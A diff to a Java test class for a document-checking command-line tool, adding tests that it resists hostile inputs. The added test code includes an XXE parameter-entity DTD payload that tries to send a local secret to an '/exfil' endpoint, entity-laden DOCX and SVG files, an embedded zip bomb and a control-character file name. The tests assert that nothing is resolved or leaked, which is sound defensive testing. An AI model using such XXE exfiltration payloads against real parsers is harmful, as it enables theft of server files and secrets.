@@ -40,6 +40,10 @@ class HostileInputTest {
     static final Map<String, String> problems = new HashMap<>();
     static final Map<String, JsonNode> articles = new HashMap<>();
     static String base;
+    static final List<String> requests = new java.util.concurrent.CopyOnWriteArrayList<>();
+    static final String SECRET = "runner-secret-5c2e81";
+    static final String CONTROL_NAME = "bad\nname\u001b[31m.txt";
+    static final Map<String, String> formats = new HashMap<>();
 
     @BeforeAll
     static void runHostileCorpus() throws Exception {
@@ -49,6 +53,14 @@ class HostileInputTest {
             t.setDaemon(true);
             return t;
         }));
+        server.createContext("/", ex -> {
+            // anything else asked for is a leak: an entity or a DTD a document named
+            requests.add(ex.getRequestURI().toString());
+            byte[] dtd = ("<!ENTITY % all \"<!ENTITY send SYSTEM '" + base + "/exfil?d=%file;'>\"> %all;").getBytes();
+            ex.sendResponseHeaders(200, dtd.length);
+            ex.getResponseBody().write(dtd);
+            ex.close();
+        });
         server.createContext("/huge", ex -> {
             ex.getResponseHeaders().set("Content-Type", "text/plain");
             ex.sendResponseHeaders(200, 0); // chunked: no length announced, 2 GB if nobody stops
@@ -86,6 +98,11 @@ class HostileInputTest {
         HostileFiles.docxZipBomb(folder);
         HostileFiles.nestedZip(folder);
         HostileFiles.bigText(folder, 100);
+        Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
+        HostileFiles.docxWithEntities(folder, secret.toUri().toString(), base + "/docx-entity");
+        HostileFiles.svgWithParameterEntities(folder, secret.toUri().toString(), base + "/evil.dtd");
+        HostileFiles.docxEmbeddingZipBomb(folder);
+        Files.writeString(folder.resolve(CONTROL_NAME), "");
         HostileFiles.endlessSentence(folder, 5);
         Files.createSymbolicLink(folder.resolve("loop"), folder);
         new ProcessBuilder("mkfifo", folder.resolve("pipe").toString()).start().waitFor();
@@ -93,10 +110,12 @@ class HostileInputTest {
 
         Path out = dir.resolve("out.json");
         // the endless sentence tests the time limit: the text limit is raised past it so that it does not cut first
-        run = CliRun.of("check", "--format", "json", "-o", out.toString(), "--timeout", "5", "--fetch-timeout", "2", "--max-input-mb", "8",
-                "--max-text-chars", "6000000",
+        run = CliRun.of("check", "--format", "json", "-o", out.toString(), "--format", "sarif", "-o", dir.resolve("out.sarif").toString(),
+                "--format", "junit", "-o", dir.resolve("out.xml").toString(), "--format", "github", "-o", dir.resolve("out.github").toString(),
+                "--timeout", "5", "--fetch-timeout", "2", "--max-input-mb", "8", "--max-text-chars", "6000000",
                 folder.toString(), Fixtures.SEED.toString(), base + "/huge", base + "/loop", base + "/silent");
         report = new ObjectMapper().readTree(out.toFile());
+        for (String f : List.of("out.sarif", "out.xml", "out.github")) formats.put(f, Files.readString(dir.resolve(f)));
         for (JsonNode p : report.get("unreadable")) problems.put(name(p.get("source").asText()), p.get("reason").asText());
         for (JsonNode a : report.get("articles")) articles.put(name(a.get("source").asText()), a);
     }
@@ -121,6 +140,11 @@ class HostileInputTest {
 
     @Test
     void everyBadInputIsReportedWithItsReason() {
+        Map<String, String> problems = new HashMap<>(HostileInputTest.problems);
+        problems.remove("entities.docx"); // read or refused, as long as no entity is resolved (below)
+        problems.remove("entities.svg");
+        assertThat(problems.remove("embedded-bomb.docx")).startsWith("zip bomb: ").contains("inside a zip inside the document");
+        assertThat(problems.remove(CONTROL_NAME)).isEqualTo("empty file");
         assertThat(problems).containsOnlyKeys("truncated.pdf", "encrypted.pdf", "scanned.pdf", "bomb.docx", "nested.zip",
                 "xxe.rss", "billion-laughs.rss", "big.txt", "endless.txt", "empty.txt", "nul-bytes.txt", "loop", "pipe",
                 "/huge", "/loop", "/silent");
@@ -137,7 +161,8 @@ class HostileInputTest {
         assertThat(problems.get("nul-bytes.txt")).contains("not text");
         assertThat(problems.get("loop")).isEqualTo("symbolic link loop");
         assertThat(problems.get("pipe")).isEqualTo("not a regular file");
-        assertThat(problems.get("/huge")).startsWith("download is over the limit of 8 MB");
+        // the size limit, or on a machine too busy to receive 8 MB in 2 s the time limit: never the 2 GB
+        assertThat(problems.get("/huge")).matches("download is over the limit of 8 MB.*|no answer within 2 s");
         assertThat(problems.get("/loop")).contains("redirects");
         assertThat(problems.get("/silent")).isEqualTo("no answer within 2 s");
     }
@@ -145,15 +170,32 @@ class HostileInputTest {
     @Test
     void oneLinePerProblemOnStderrAndNoStackTrace() {
         List<String> lines = run.err().lines().filter(l -> l.startsWith("calque: ")).toList();
-        assertThat(lines).hasSize(problems.size());
+        // a data file in a folder (the SVG) is skipped with a line of its own, not an unreadable input
+        assertThat(lines.stream().filter(l -> !l.contains(": skipped: "))).hasSize(problems.size());
         assertThat(run.err()).doesNotContain("Exception").doesNotContain("\tat ");
         assertThat(run.exit()).isEqualTo(Main.UNREADABLE_INPUT);
     }
 
     @Test
     void externalEntitiesAreNeverResolved() {
-        assertThat(report.toString()).doesNotContain("root:x:0:0");
-        assertThat(run.out() + run.err()).doesNotContain("root:x:0:0");
+        assertThat(report.toString()).doesNotContain("root:x:0:0").doesNotContain(SECRET);
+        assertThat(run.out() + run.err()).doesNotContain("root:x:0:0").doesNotContain(SECRET);
+        for (String f : formats.values()) assertThat(f).doesNotContain(SECRET);
+        // the loopback server saw only the URLs given on the command line: no entity, DTD or exfiltration
+        assertThat(requests).as("requests a document made").isEmpty();
+    }
+
+    @Test
+    void everyOutputFormatHoldsTheGoodArticleAndTheBadInputs() {
+        for (Map.Entry<String, String> f : formats.entrySet()) {
+            assertThat(f.getValue()).as(f.getKey()).contains("swept to AFP").contains("bomb.docx").contains("big.txt")
+                    .contains("/silent");
+        }
+    }
+
+    @Test
+    void aControlCharacterInAFileNameIsEscapedOnItsLine() {
+        assertThat(run.err()).contains("bad\\nname\\x1b[31m.txt: empty file").doesNotContain("\u001b");
     }
 
     @Test
